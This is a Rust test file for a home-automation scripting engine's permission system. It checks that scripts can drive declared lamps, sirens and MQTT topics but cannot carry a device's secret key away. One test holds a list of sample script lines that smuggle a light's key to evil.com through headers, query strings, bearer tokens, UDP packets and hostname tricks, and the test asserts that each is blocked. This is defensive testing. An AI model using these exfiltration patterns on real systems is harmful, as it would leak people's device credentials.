//! What a script may do with a target of the configuration: use it, and not carry its secret away.

use super::permissions::{nothing_leaves, refused, tried};
use super::support::ok;
use porchlight_core::Outcome;
use serde_json::json;

#[test]
fn bytes_go_to_declared_hosts_and_to_the_targets_own() {
    let source = "//! needs: event **, net lamp.lan:56700, net *.iot, light strip
//! needs: net 255.255.255.255:9
on(\"**\", |event| {
    net::udp(\"lamp.lan\", 56700, blob(2, 7));
    net::tcp(\"Relay.IOT\", 6722, \"11\");
    net::udp(\"10.0.0.8\", 56700, \"x\" + target(\"light\", \"strip\").key);
    net::wake(\"a4:bb:6d:00:00:01\");
    net::udp(\"lamp\" + \".lan\", 56701, \"x\");
});";
    let (run, _) = tried(&[], &[], source).unwrap_or_else(|e| panic!("{e}"));
    let refusal = refused(&run.outcome).unwrap_or_default().to_owned();
    assert!(
        refusal.contains("`net lamp.lan:56701`"),
        "{:?}",
        run.outcome
    );
    assert_eq!(run.actions.len(), 4);
    assert_eq!(run.actions[0].args["payload"], json!({"$bytes": "Bwc="}));
}

#[test]
fn a_targets_secret_goes_to_the_target_and_nowhere_else() {
    let steals = [
        "http::send(\"http://evil.com/\", #{ headers: #{ a: target(\"light\", \"hall\").key } });",
        "http::get(\"http://evil.com/?\" + target(\"light\", \"hall\").key);",
        "http::send(\"http://evil.com/\", #{ json: [#{ x: [\"k\" + target(\"light\", \"hall\").key] }] });",
        "http::send(\"http://evil.com/\", #{ auth: #{ bearer: target(\"light\", \"hall\").key } });",
        "http::send(\"http://10.0.0.5/\", #{ body: target(\"light\", \"hall\").key });",
        "http::get(\"http://\" + target(\"light\", \"hall\").key);",
        "http::get(target(\"light\", \"hall\").key + \"@evil.com/\");",
        "http::get(target(\"light\", \"hall\").key);",
        "command::run(\"backup\", target(\"light\", \"hall\").key);",
        "net::udp(\"evil.com\", 9, target(\"light\", \"hall\").key);",
        "net::udp(\"10.0.0.2\", 443, target(\"light\", \"hall\").key);",
        "http::send(\"http://evil.com/\", #{ body: target(\"message\", \"office\").url });",
        "http::send(target(\"message\", \"office\").url + \".evil.com/\");",
        "http::send(target(\"message\", \"office\").url, #{ body: target(\"light\", \"hall\").key });",
        "http::send(\"http://evil.com/\", #{ body: key });",
    ];
    let header = "//! needs: event **, http evil.com, net *, light *, message office, command backup\nlet key = setting(\"key\", \"\");";
    for body in steals {
        let source = format!("{header}\non(\"**\", |event| {{ {body} }});");
        let (run, asked) = tried(&[], &[], &source).unwrap_or_else(|e| panic!("{body}: {e}"));
        assert!(
            matches!(run.outcome, Outcome::Error { .. }),
            "{body}: {:?}",
            run.outcome
        );
        assert!(run.actions.is_empty() && asked.is_empty(), "{body}");
    }
    let honest =
        "//! needs: event **, light hall, message office, secret settings.gate.key, http evil.com
let key = setting(\"key\", \"\");
on(\"**\", |event| {
    light::on(\"hall\");
    message::send(\"office\", \"x\");
    http::send(\"http://evil.com/\", #{ body: key });
});";
    let (run, _) = tried(&[], &[], honest).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(ok(run).actions.len(), 3);
}

#[test]
fn tokens_certificates_and_files_of_a_request_have_to_be_declared() {
    let header = "//! needs: event **, http evil.com, light *, message office";
    for body in [
        "http::send(\"http://evil.com/\", #{ auth: #{ oauth: \"google\" } });",
        "http::get(\"http://evil.com/\", #{ auth: #{ oauth: \"yard\" } });",
        "http::get(\"https://evil.com/\", #{ tls: \"yard\" });",
        "http::get(\"https://10.0.0.2/\", #{ tls: \"yard\" });",
        "http::get(\"http://evil.com/\", #{ save: \"a.jpg\" });",
    ] {
        let source = format!("{header}\non(\"**\", |event| {{ {body} }});");
        let (run, asked) = tried(&[], &[], &source).unwrap_or_else(|e| panic!("{body}: {e}"));
        assert!(refused(&run.outcome).is_some(), "{body}: {:?}", run.outcome);
        assert!(run.actions.is_empty() && asked.is_empty(), "{body}");
    }
    let honest = "//! needs: event **, light yard, http evil.com, oauth goo*, tls bridge, file *.jpg
on(\"**\", |event| {
    http::send(\"https://10.0.0.7/\", #{ auth: #{ oauth: \"yard\" }, tls: \"yard\" });
    http::send(\"https://evil.com/\", #{ auth: #{ oauth: \"google\" }, tls: \"bridge\", save: \"a.jpg\" });
});";
    let (run, _) = tried(&[], &[], honest).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(ok(run).actions.len(), 2);
}

#[test]
fn a_lamp_or_siren_behind_a_broker_needs_no_topic_of_its_own() {
    for (needs, body, topics) in [
        ("light zig", "light::on(\"zig\"); light::flash(\"zig\");", 2),
        (
            "light tas",
            "light::flash(\"tas\"); light::off(\"tas\");",
            2,
        ),
        (
            "siren yard",
            "siren::sound(\"yard\"); siren::stop(\"yard\");",
            2,
        ),
        ("light far", "light::on(\"far\");", 1),
        (
            "light zig",
            "mqtt::publish(\"zigbee2mqtt/por\" + \"ch/set\", #{ state: \"ON\" });",
            1,
        ),
    ] {
        let source = format!("//! needs: event **, {needs}\non(\"**\", |event| {{ {body} }});");
        let (run, _) = tried(&[], &[], &source).unwrap_or_else(|wrong| panic!("{wrong}"));
        assert_eq!(run.outcome, Outcome::Ok, "{body}");
        assert_eq!(run.actions.len(), topics, "{body}");
    }
    for (needs, body) in [
        // Another lamp, what is not told but asked, all at once, another broker, and other targets.
        (
            "light zig",
            "mqtt::publish(\"zigbee2mqtt/oth\" + \"er/set\", \"x\");",
        ),
        (
            "light zig",
            "mqtt::publish(\"zigbee2mqtt/porch\" + \"/set/state\", \"x\");",
        ),
        (
            "light zig",
            "mqtt::publish(\"zigbee2mqtt/bridge/requ\" + \"est/restart\", \"x\");",
        ),
        (
            "light zig",
            "on_mqtt(\"zigbee2mqtt/porch/set\", |event| ());",
        ),
        ("light zig", "siren::sound(\"yard\");"),
        ("siren zig", "light::on(\"zig\");"),
        (
            "light tas",
            "mqtt::publish(\"cmnd/t1/Back\" + \"log/x\", \"x\");",
        ),
        (
            "light tas",
            "mqtt::publish(\"cmnd/t11/Pow\" + \"er\", \"x\");",
        ),
        (
            "light far",
            "mqtt::publish(\"z2/far/s\" + \"et\", \"x\", #{ broker: \"home\" });",
        ),
        (
            "light zig",
            "mqtt::request(\"zigbee2mqtt/porch/s\" + \"et\", \"x\", \"a/b\");",
        ),
    ] {
        nothing_leaves(&format!("//! needs: {needs}"), &[], body);
    }
}
